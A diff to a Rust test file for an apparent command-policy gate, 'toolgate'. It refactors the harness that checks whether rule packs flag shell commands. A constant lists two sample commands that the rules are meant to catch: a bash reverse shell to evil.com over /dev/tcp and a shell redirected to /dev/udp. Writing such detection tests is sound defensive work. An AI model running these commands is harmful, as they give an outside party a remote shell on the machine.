@@ -8,12 +8,16 @@ use std::path::{Path, PathBuf};
 
 use serde::Deserialize;
 use toolgate_gate::dirs::Dirs;
-use toolgate_gate::disk::Disk;
-use toolgate_gate::observe::{Circumstances, judge};
-use toolgate_gate::session::{SessionOptions, places};
+use toolgate_gate::gather::Surroundings;
+use toolgate_gate::line::consider;
+use toolgate_gate::options::SessionOptions;
+use toolgate_gate::session::{Session, session};
+use toolgate_gate::settings::Rules;
 use toolgate_hosts::tools_like;
-use toolgate_model::{ActivationState, Call, Json, Places};
+use toolgate_model::{Call, Json};
 use toolgate_policies::{Settings, read, stack};
+
+use crate::test_machine::TestMachine;
 
 /// What a rule says and the interpreter does not yet tell it: that bash's own `/dev/tcp` and `/dev/udp` are outputs.
 const NOT_TOLD: [&str; 2] = ["bash >& /dev/tcp/evil.com/4444", "sh > /dev/udp/1.2.3.4/53"];
@@ -49,8 +53,8 @@ fn packs() -> Vec<(String, Pack)> {
 /// A directory with a few files in it, in which every command is tried.
 struct Place {
     root: tempfile::TempDir,
-    disk: Disk,
-    places: Places,
+    machine: TestMachine,
+    session: Session,
 }
 
 impl Place {
@@ -63,30 +67,21 @@ impl Place {
         for file in ["a.rs", "a", "src/a.rs", "a.db", "x.patch"] {
             fs::write(at("work").join(file), "x\n").unwrap();
         }
-        let disk = Disk::default();
+        let machine = TestMachine::default();
         let dirs = Dirs::of_home(&at("home"));
         let work = at("work");
-        let places =
-            places(&disk, &dirs, &SessionOptions::default(), &call("", work.to_str().unwrap()), None)
-                .unwrap();
-        Place { root, disk, places }
+        let call = call("", work.to_str().unwrap());
+        let session = session(&machine, &dirs, &SessionOptions::default(), &call, None).unwrap();
+        Place { root, machine, session }
     }
 
     /// Whether the rule finds the command. All others of its pack are off, but for the floor.
     fn finds(&self, settings: &Settings, reason: &str, command: &str) -> bool {
         let cwd = self.root.path().join("work");
-        let known = Circumstances {
-            world: &self.disk,
-            layers: std::slice::from_ref(settings),
-            places: &self.places,
-            activation: ActivationState::default(),
-            team: &toolgate_model::Team::default(),
-            config: None,
-            tmp: None,
-            unset: &|_| true,
-            env_root: &|_| None,
-        };
-        let verdict = judge(&call(command, cwd.to_str().unwrap()), &known);
+        let call = call(command, cwd.to_str().unwrap());
+        let rules = Rules { layers: vec![settings.clone()], digest: String::new() };
+        let around = Surroundings::new(&self.machine, &call, self.session.clone(), rules, |_| None);
+        let verdict = consider(&self.machine, &call, &around).verdict;
         verdict
             .findings()
             .iter()
